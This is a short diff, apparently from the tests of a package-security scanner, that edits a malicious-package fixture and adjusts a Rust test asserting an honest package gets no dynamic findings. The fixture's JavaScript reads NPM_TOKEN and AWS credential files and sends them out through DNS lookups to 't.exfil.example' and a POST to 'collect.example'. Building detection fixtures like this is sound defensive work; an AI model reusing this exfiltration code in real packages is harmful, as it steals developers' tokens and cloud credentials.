@@ -57,7 +57,8 @@ const cp = require('child_process');
 const token = process.env.NPM_TOKEN || '';
 let aws = '';
 try { aws = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); } catch (e) {}
-dns.lookup(Buffer.from(token).toString('hex').slice(0, 60) + '.t.exfil.example', () => {});
+const hex = Buffer.from(token).toString('hex');
+dns.lookup(hex.slice(0, 40) + '.' + hex.slice(40) + '.t.exfil.example', () => {});
 const req = https.request({ hostname: 'collect.example', path: '/upload?k=1', method: 'POST',
   headers: { 'content-type': 'application/json' } }, (res) => res.resume());
 req.on('error', () => {});
@@ -259,8 +260,8 @@ fn an_honest_package_stays_clean_and_the_host_stays_hidden() {
     );
     let rules = rule_ids(&report);
     assert!(
-        !rules.iter().any(|r| r.starts_with("DSCA10")),
-        "dynamic findings on an honest package: {rules:?}\n{run:#}"
+        !rules.iter().any(|r| r.len() == 8 && r.starts_with("DSCA10")),
+        "dynamic findings on an honest package: {rules:?}\n{report:#}"
     );
     assert_eq!(report["verdict"]["level"], "clean", "{rules:?}");
 }
